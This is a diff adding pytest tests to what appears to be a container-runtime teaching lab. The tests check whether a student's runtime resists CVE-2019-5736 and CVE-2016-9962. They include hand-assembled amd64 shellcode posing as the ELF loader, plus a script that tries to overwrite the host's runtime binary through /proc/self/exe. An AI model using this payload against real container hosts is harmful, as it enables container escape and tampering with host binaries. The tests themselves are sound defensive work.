@@ -2,24 +2,32 @@
 
 import errno
 import os
+import select
+import shutil
+import signal
+import struct
+import subprocess
+import sys
 import tempfile
-from collections.abc import Callable
+import time
+from collections.abc import Callable, Iterator
 from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from labkit import cgroups, host, procfs
+from labkit import cgroups, host, procfs, rootfs
 from labkit.lab import NotAttempted, NotYet, Outcome, Passed
 from labkit.lab.exercises import lab12
 from labkit.lab.exercises.boxes import Running, wrong_box
-from labkit.lab.exercises.standin import StandIn
+from labkit.lab.exercises.standin import StandIn, find_command
 from labkit.lab.exercises.steporder import CONSEQUENCES, RULES, STEP_NAMES, Rule, wrong_order, wrong_reasons
 from labkit.lab.notebooks import source
 from labkit.lab.notebooks.posed import posed
 from labkit.lab.notebooks.trial import attempt, defined_before
 from labkit.process import run_in_child, spawn
+from tests.requirements import machine_cannot
 
 AS_ROOT = os.geteuid() == 0
 MD = source.path_of("12")
@@ -463,3 +471,140 @@ def test_the_worst_mistakes_do_not_reach_the_lab_host() -> None:
         attempt("12", exercise, code)
     assert host.pid() == lab_host
     assert procfs.mountinfo(lab_host) == before
+
+
+# An image whose entry is the builder's own program: CVE-2019-5736.
+
+
+@pytest.fixture
+def finished() -> Iterator[dict[str, Any]]:
+    """What the notebook defines once `box.py` is complete."""
+    names = defined_before(posed("12", "pod"))
+    yield names
+    names["WORKSHOP"].cleanup()
+
+
+def loader() -> bytes:
+    """A program for amd64 that stands where the loader of the host's Python is looked for (its PT_INTERP).
+
+    open("/proc/self/exe", O_RDONLY), which is descriptor 3; execve("/attack", {"/attack", NULL}, NULL).
+    """
+    exe, attack = b"/proc/self/exe\0", b"/attack\0"
+    opens = b"\x31\xf6\xb8\x02\0\0\0\x0f\x05"  # esi = 0; eax = 2; syscall
+    executes = b"\x31\xd2\x52\x57\x48\x89\xe6\xb8\x3b\0\0\0\x0f\x05\xf4"  # rsi = {rdi, 0}; eax = 59; syscall; hlt
+    lea = b"\x48\x8d\x3d"  # rdi = an address relative to the next instruction
+    first = lea + struct.pack("<i", len(opens) + 7 + len(executes)) + opens
+    code = first + lea + struct.pack("<i", len(executes) + len(exe)) + executes + exe + attack
+    at = 64 + 56
+    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 3, 62, 1, at, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, at + len(code), at + len(code), 4096) + code
+
+
+@pytest.fixture
+def hostile_image(tmp_path: Path) -> Path:
+    if os.uname().machine != "x86_64":
+        machine_cannot("run the attack, which is written in amd64's code")
+    image = tmp_path / "image"
+    shutil.copytree(rootfs.find("busybox"), image, symlinks=True)
+    (image / "lib64").mkdir(exist_ok=True)
+    (image / "lib64" / "ld-linux-x86-64.so.2").write_bytes(loader())
+    (image / "lib64" / "ld-linux-x86-64.so.2").chmod(0o755)
+    (image / "entry").symlink_to("/proc/self/exe")
+    (image / "script").write_text("#!/proc/self/exe\n")
+    (image / "attack").write_text(
+        "#!/bin/sh\n"
+        "case $(readlink /proc/$$/fd/3) in /memfd:*) (echo owned > /proc/$$/fd/3) 2>/dev/null || exit 42 ;; esac\n"
+        "until (echo owned > /proc/$$/fd/3) 2>/dev/null; do sleep 0.1; done\n"
+    )
+    for name in ("script", "attack"):
+        (image / name).chmod(0o755)
+    return image
+
+
+@pytest.mark.parametrize("entry", ["/entry", "/script", "/proc/self/exe"])
+def test_the_entry_of_an_image_finds_a_copy_that_nobody_can_write_to(
+    entry: str, hostile_image: Path, finished: dict[str, Any]
+) -> None:
+    assert run_in_child(finished["run"], [entry], str(hostile_image)) == 42
+
+
+def test_a_box_is_not_built_by_the_machines_own_python(hostile_image: Path, tmp_path: Path) -> None:
+    """Whose builder has ended writes to the file that it ran: here a copy of Python's, which no other process runs."""
+    python = tmp_path / "python"
+    shutil.copyfile(os.path.realpath(sys.executable), python)
+    python.chmod(0o755)
+    before = python.read_bytes()
+    program = (
+        f"import sys; sys.path[:] = {sys.path!r}\n"
+        "from labkit.lab.notebooks.posed import posed\n"
+        "from labkit.lab.notebooks.trial import defined_before\n"
+        f"defined_before(posed('12', 'pod'))['run'](['/entry'], {str(hostile_image)!r})\n"
+    )
+    environment = {**os.environ, "PYTHONHOME": sys.base_prefix}
+    said = run_in_child(_builder_that_ends, [str(python), "-c", program], environment)
+    assert python.read_bytes() == before
+    assert "RuntimeError" in said
+    assert "run_in_child" in said
+
+
+def _builder_that_ends(command: list[str], environment: dict[str, str]) -> str:
+    """Run a program that builds a box; once the box is there, kill all but the box. What the program said."""
+    builder = subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    box = None
+    while box is None and builder.poll() is None and time.monotonic() < deadline:
+        box = next((pid for pid in procfs.descendants(builder.pid) if b"attack" in _cmdline(pid)), None)
+        time.sleep(0.05)
+    if box is None:
+        return str(builder.communicate()[1])
+    between = [pid for pid in procfs.descendants(builder.pid) if os.path.samefile(f"/proc/{pid}/exe", command[0])]
+    for pid in (builder.pid, *between):
+        os.kill(pid, signal.SIGKILL)
+    builder.wait()
+    pidfd = os.pidfd_open(box)
+    select.select([pidfd], [], [], 10)  # it ends when it has written
+    with suppress(ProcessLookupError):
+        signal.pidfd_send_signal(pidfd, signal.SIGKILL)
+    return "the box was built"
+
+
+def _cmdline(pid: int) -> bytes:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes()
+    except OSError:
+        return b""
+
+
+def test_nobody_in_a_box_opens_the_memory_of_who_joins_it(finished: dict[str, Any]) -> None:
+    """CVE-2016-9962: the newcomer is stopped where it has the box's powers and has not become its program yet."""
+    powers, put_on_filter = finished["powers"], finished["put_on_filter"]
+
+    def stop(box: Any) -> None:
+        put_on_filter(box)
+        os.kill(os.getpid(), signal.SIGSTOP)
+
+    def look(pid: int) -> bool:
+        """As a process of the box would: its powers, and no filter, which has nothing against it."""
+        powers(None)
+        with suppress(PermissionError), open(f"/proc/{pid}/mem", "r+b"):
+            return True
+        return False
+
+    with spawn(finished["run"], ["/bin/sleep", "4321"], wait=False) as caller:
+        box = find_command(caller, ["/bin/sleep", "4321"], 10)
+        assert box
+        finished["put_on_filter"] = stop
+        with spawn(finished["execute"], box, ["/bin/sleep", "999"], wait=False) as guest:
+            newcomer = _stopped_below(guest.pid)
+            assert not run_in_child(look, newcomer)
+        assert run_in_child(look, box), "the box's own program may be looked at: the attack works"
+
+
+def _stopped_below(pid: int) -> int:
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        for one in procfs.descendants(pid):
+            if procfs.status(one)["State"].startswith("T"):
+                return one
+        time.sleep(0.02)
+    raise AssertionError("the newcomer did not come to its filter")
